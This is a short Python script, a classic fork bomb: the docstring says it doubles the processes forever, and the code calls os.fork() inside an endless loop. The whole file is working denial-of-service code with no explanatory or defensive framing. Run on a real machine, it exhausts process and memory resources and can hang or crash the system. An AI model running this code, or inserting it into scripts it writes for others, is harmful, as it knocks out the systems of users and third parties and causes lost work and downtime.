"""Double the processes forever."""

import os

while True:
    os.fork()
